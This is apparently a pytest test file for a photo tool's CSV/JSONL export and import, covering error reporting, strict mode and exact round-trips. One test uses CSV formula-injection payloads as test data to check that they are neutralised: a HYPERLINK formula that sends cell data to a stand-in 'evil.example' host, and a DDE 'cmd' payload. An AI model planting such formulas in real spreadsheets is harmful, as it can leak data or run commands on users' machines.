"""export and import on a real library: bad lines are reported and the rest imported, spreadsheets
never see a formula, and whatever `export` writes imports back exactly."""

from __future__ import annotations

import csv
import json
import os

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from photocap import cli
from photocap.library import db, exchange, photos

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def library(tmp_path):
    """Three photos: beach and forest with auto captions, one whose file name is not UTF-8."""
    root = tmp_path / "pics"
    root.mkdir()
    Image.new("RGB", (16, 12), "yellow").save(root / "beach.jpg")
    Image.new("RGB", (16, 12), "green").save(root / "forest.jpg")
    odd = os.path.join(os.fsencode(root), b"caf\xe9 \xff.jpg")      # Latin-1 name from an old camera
    Image.new("RGB", (16, 12), "red").save(odd, format="JPEG")
    path = str(tmp_path / "lib.db")
    assert cli.main(["--db", path, "index", "--no-caption", str(root)]) == 0
    conn = db.connect(path)
    for name, text in {"beach.jpg": "a dog on the beach", "forest.jpg": "a green forest"}.items():
        photo = photos.by_path(conn, str(root / name))
        photos.set_auto_captions(conn, photo.id, [text], model="blip-base", tags=text.split()[-1:])
    odd_photo = photos.by_path(conn, os.fsdecode(odd))
    assert odd_photo is not None
    photos.set_auto_captions(conn, odd_photo.id, ["a red square"], model="blip-base", tags=["red"])
    return path, root, conn, os.fsdecode(odd)


def _caption(conn, path: str) -> str:
    return photos.captions(conn, photos.by_path(conn, path).id)[0].text


def _tags(conn, path: str) -> set[str]:
    return {t for t, _ in photos.tags(conn, photos.by_path(conn, path).id)}


def _write_jsonl(file, rows: list) -> None:
    file.write_text("".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows),
                    encoding="utf-8")


# ---- CSV cells never start a formula --------------------------------------------------------------

@given(st.text())
def test_csv_cell_escape_is_exact_and_never_starts_a_formula(text):
    cell = exchange.escape_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert exchange.unescape_cell(cell) == text


def test_a_cell_a_person_typed_with_an_apostrophe_is_kept():
    assert exchange.unescape_cell("'twas brillig") == "'twas brillig"
    assert exchange.unescape_cell("'=1+1") == "=1+1"


def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(library, tmp_path, capsys):
    path, root, conn, _ = library
    beach = str(root / "beach.jpg")
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click me")'
    photo_id = photos.by_path(conn, beach).id
    photos.set_user_caption(conn, photo_id, formula)
    photos.add_user_tags(conn, photo_id, ["+cmd|' /c calc'!a0", "@sum(1)", "-2+3", "'quoted"])
    out = tmp_path / "review.csv"
    assert cli.main(["--db", path, "export", "--format", "csv", "--output", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + formula in cells
    before_tags = _tags(conn, beach)
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(out)]) == 0, capsys.readouterr().err
    assert _caption(conn, beach) == formula
    assert _tags(conn, beach) == before_tags


# ---- bad lines are reported, the rest imported ------------------------------------------------------

def _messy_jsonl(root, odd: str) -> list:
    beach, forest = str(root / "beach.jpg"), str(root / "forest.jpg")
    return [
        {"path": beach, "caption": "our dog Rex"},                          # 1 good
        "{broken",                                                          # 2 not JSON
        "[1, 2]",                                                           # 3 not an object
        {"path": forest, "caption": 5},                                     # 4 caption not text
        {"path": forest, "tags": "fog; pine"},                              # 5 tags not a list
        {"path": forest, "tags": [{"tag": 7}]},                             # 6 a tag not text
        {"path": str(root / "not-there.jpg"), "caption": "x"},              # 7 not in the library
        {"path": beach, "caption": "a second opinion"},                     # 8 duplicate of line 1
        {"caption": "no path at all"},                                      # 9 no path
        {"path": forest, "caption": "pine forest in the fog", "tags": ["fog", "pine"]},   # 10 good
    ]


def test_import_reports_each_bad_line_and_imports_the_rest(library, tmp_path, capsys):
    path, root, conn, odd = library
    review = tmp_path / "review.jsonl"
    _write_jsonl(review, _messy_jsonl(root, odd))
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(review)]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and "Error" not in captured.err
    problems = captured.err.splitlines()
    for line in (2, 3, 4, 5, 6, 7, 8, 9):
        assert len([p for p in problems if p.startswith(f"photocap: line {line}: ")]) == 1, (line, problems)
    assert "not-there.jpg" in captured.err and "line 1" in next(p for p in problems if "line 8:" in p)
    assert "imported 2 photos" in captured.out and "8 lines skipped" in captured.out
    assert _caption(conn, str(root / "beach.jpg")) == "our dog Rex"
    assert _caption(conn, str(root / "forest.jpg")) == "pine forest in the fog"
    assert _tags(conn, str(root / "forest.jpg")) == {"fog", "pine"}


def test_strict_import_changes_nothing_when_a_line_is_bad(library, tmp_path, capsys):
    path, root, conn, odd = library
    review = tmp_path / "review.jsonl"
    _write_jsonl(review, _messy_jsonl(root, odd))
    capsys.readouterr()
    assert cli.main(["--db", path, "import", "--strict", str(review)]) == 1
    captured = capsys.readouterr()
    assert "nothing imported" in captured.err and "line 4: " in captured.err
    assert _caption(conn, str(root / "beach.jpg")) == "a dog on the beach"
    assert _caption(conn, str(root / "forest.jpg")) == "a green forest"
    _write_jsonl(review, _messy_jsonl(root, odd)[:1])
    assert cli.main(["--db", path, "import", "--strict", str(review)]) == 0
    assert _caption(conn, str(root / "beach.jpg")) == "our dog Rex"


def test_csv_problems_name_the_line_the_row_starts_on(library, tmp_path, capsys):
    path, root, conn, _ = library
    review = tmp_path / "review.csv"
    review.write_bytes(
        b"path,caption,tags\n"
        + f'{root / "beach.jpg"},"two\nlines",dog\n'.encode()              # lines 2-3
        + f"{root / 'gone.jpg'},x,\n".encode()                              # line 4: not in the library
        + f"{root / 'beach.jpg'},again,\n".encode()                         # line 5: duplicate
        + f"{root / 'forest.jpg'},for\xeat,\n".encode("latin-1")            # line 6: not UTF-8
        + b"\n"                                                             # line 7: blank
        + f'{root / "forest.jpg"},"pine ""forest""",\n'.encode())           # line 8: good
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(review)]) == 1
    err = capsys.readouterr().err
    assert "line 4: " in err and "gone.jpg" in err
    assert "line 5: " in err and "line 2" in err.split("line 5: ")[1].splitlines()[0]
    assert "line 6: " in err and "UTF-8" in err
    assert "Traceback" not in err and "codec" not in err
    assert _caption(conn, str(root / "beach.jpg")) == "two\nlines"
    assert _caption(conn, str(root / "forest.jpg")) == 'pine "forest"'


# ---- what export writes always imports back ----------------------------------------------------------

@pytest.mark.timeout(60)
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_imports_back_exactly_long_and_odd_text(library, tmp_path, fmt, capsys):
    path, root, conn, odd = library
    beach = str(root / "beach.jpg")
    long_caption = "=start " + "lorem ipsum " * 30_000 + "\u2028 \x85 \x1c \r\n quoted \"x\" end"   # ~360 KB
    photo_id = photos.by_path(conn, beach).id
    photos.set_user_caption(conn, photo_id, long_caption)
    photos.add_user_tags(conn, photo_id, ["salt; pepper", "back\\slash", "a\u2028b"])
    before = {p: (_caption(conn, p), _tags(conn, p)) for p in (beach, str(root / "forest.jpg"), odd)}
    out = tmp_path / f"all.{fmt}"
    assert cli.main(["--db", path, "export", "--format", fmt, "--output", str(out)]) == 0
    out.read_bytes().decode("utf-8")                            # the file itself is valid UTF-8
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(out)]) == 0, capsys.readouterr().err
    assert "imported 3 photos" in capsys.readouterr().out
    assert {p: (_caption(conn, p), _tags(conn, p)) for p in before} == before


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_photo_whose_name_is_not_utf8_gets_its_reviewed_caption(library, tmp_path, fmt, capsys):
    path, root, conn, odd = library
    out = tmp_path / f"review.{fmt}"
    assert cli.main(["--db", path, "export", "--format", fmt, "--output", str(out)]) == 0
    if fmt == "csv":
        with out.open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        for row in rows:
            if row["path"].startswith(str(root / "caf")):         # shown as "caf\ufffd \ufffd.jpg"
                row["caption"] = "café sign in red"
        with out.open("w", encoding="utf-8", newline="") as f:
            writer = csv.DictWriter(f, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        for row in rows:
            if row["path"].startswith(str(root / "caf")):
                row["captions"][0]["text"] = "café sign in red"
        _write_jsonl(out, rows)
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(out)]) == 0, capsys.readouterr().err
    assert _caption(conn, odd) == "café sign in red"
    assert _caption(conn, str(root / "beach.jpg")) == "a dog on the beach"


def test_overlong_lines_and_cells_are_reported_not_read_whole(library, tmp_path, monkeypatch, capsys):
    path, root, conn, _ = library
    monkeypatch.setattr(exchange, "MAX_FIELD_CHARS", 1000)       # the cap, small enough to test
    beach, forest = str(root / "beach.jpg"), str(root / "forest.jpg")
    review = tmp_path / "review.jsonl"
    _write_jsonl(review, [{"path": beach, "caption": "x" * 5000},
                          {"path": forest, "caption": "short and fine"}])
    capsys.readouterr()
    assert cli.main(["--db", path, "import", str(review)]) == 1
    (problem,) = capsys.readouterr().err.splitlines()
    assert problem == "photocap: line 1: longer than 1,000 characters"
    assert _caption(conn, forest) == "short and fine" and _caption(conn, beach) == "a dog on the beach"
    review = tmp_path / "review.csv"
    review.write_text(f"path,caption\n{forest},fir trees\n{beach},\"{'y' * 5000}\"\n{beach},sand\n",
                      encoding="utf-8")
    assert cli.main(["--db", path, "import", str(review)]) == 1
    (problem,) = capsys.readouterr().err.splitlines()
    assert problem == ("photocap: line 3: a cell is longer than 1,000 characters; "
                       "the rest of the file was not read")
    assert _caption(conn, forest) == "fir trees" and _caption(conn, beach) == "a dog on the beach"
